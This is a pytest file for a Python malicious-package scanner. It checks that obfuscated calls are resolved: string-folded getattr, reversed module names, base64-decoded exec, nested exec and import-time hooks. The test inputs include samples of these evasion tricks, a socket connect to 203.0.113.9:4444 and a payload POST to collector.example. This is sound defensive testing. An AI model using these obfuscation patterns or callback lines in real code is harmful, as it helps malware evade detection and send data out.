"""Name resolution: a call is recognised however its module was reached, and a local name is never mistaken for
a module."""

from pypi_platform_tests.lib.scans import python_scan
from pypi_platform_tests.lib.scans.python_scan import rules


def found(source: str) -> list[tuple[str, int | None]]:
    """The findings but the lookup itself (obfuscation.indirect-call, tested in test_behaviours_recon.py):
    these tests are about what a lookup resolves to."""
    return [pair for pair in python_scan.found(source) if pair[0] != "obfuscation.indirect-call"]


def test_getattr_with_a_folded_attribute_resolves():
    assert found("import os\ngetattr(os, 'sy' + 'stem')('id')\n") == [("process.spawn", 2)]


def test_dunder_import_of_a_folded_name_resolves_and_stays_a_dynamic_import():
    assert found("__import__('o' + 's').system('id')\n") == [("exec.dynamic-import", 1), ("process.spawn", 1)]


def test_importlib_with_a_reversed_name_resolves():
    source = "import importlib\nimportlib.import_module('ssecorpbus'[::-1]).Popen(['id'])\n"
    assert ("process.spawn", 2) in found(source)


def test_module_dict_and_getattribute_resolve():
    source = """
    import os
    os.__dict__['system']('id')
    os.__getattribute__('popen')('id')
    """
    assert found(source) == [("process.spawn", 3), ("process.spawn", 4)]


def test_globals_locals_and_vars_lookups_resolve():
    source = """
    globals()['__builtins__']['ev' + 'al'](code)
    vars(__builtins__)['exec'](code)
    import os
    vars(os)['system']('id')
    locals()['os'].popen('id')
    """
    assert found(source) == [
        ("exec.dynamic-code", 2),
        ("exec.dynamic-code", 3),
        ("process.spawn", 5),
        ("process.spawn", 6),
    ]


def test_a_well_known_module_used_without_an_import_resolves():
    source = """
    os.system('id')
    subprocess.Popen(['id'])
    socket.socket().connect(('203.0.113.9', 4444))
    requests.post('https://collector.example/x', data=payload)
    """
    found_rules = found(source)
    assert ("process.spawn", 2) in found_rules and ("process.spawn", 3) in found_rules
    assert ("network.connection", 4) in found_rules and ("network.connection", 5) in found_rules


def test_a_local_name_that_shadows_a_module_is_not_the_module():
    source = """
    def handle(socket, requests):
        socket.connect(address)
        requests.post(url)

    for os in systems:
        os.system('x')
    """
    assert rules(source) == set()


def test_code_handed_to_exec_is_scanned_and_reported_on_the_exec_line():
    source = """
    import base64
    exec("import subprocess\\nsubprocess.call(['id'])")
    exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))
    """
    assert found(source) == [
        ("process.spawn", 3),
        ("obfuscation.decode-and-exec", 4),
        ("process.spawn", 4),
    ]


def test_code_handed_to_exec_that_does_nothing_stays_quiet():
    assert found("exec('x = 1')\nexec('def f():\\n    return 2')\n") == []


def test_exec_inside_exec_is_scanned_to_a_bounded_depth():
    inner = "import os; os.system('id')"
    twice = f"exec({inner!r})"
    source = f"{twice}\nexec({twice!r})\n"
    assert found(source) == [("process.spawn", 1), ("process.spawn", 2)]
    deep = inner
    for _ in range(10):
        deep = f"exec({deep!r})"
    assert found(deep + "\n") == []  # beyond the depth bound: not followed, and no crash


def test_top_level_calls_are_marked_as_import_time_and_main_blocks_are_not():
    from pypi_platform_tests.lib.scans.python_scan import scan

    source = """
    import os
    os.system('a')

    def f():
        os.system('b')

    if __name__ == '__main__':
        os.system('c')
    """
    assert [(finding.line, finding.at_import) for finding in scan(source)] == [
        (3, True),
        (6, False),
        (9, False),
    ]


def test_functions_called_at_the_top_level_run_at_import_and_so_do_their_callees():
    from pypi_platform_tests.lib.scans.python_scan import scan

    source = """
    import atexit, os

    def helper():
        os.system('a')

    def start():
        helper()

    def on_exit():
        os.system('b')

    def unused():
        os.system('c')

    start()
    atexit.register(on_exit)
    """
    assert [(finding.line, finding.at_import) for finding in scan(source)] == [
        (5, True),
        (11, True),
        (14, False),
    ]
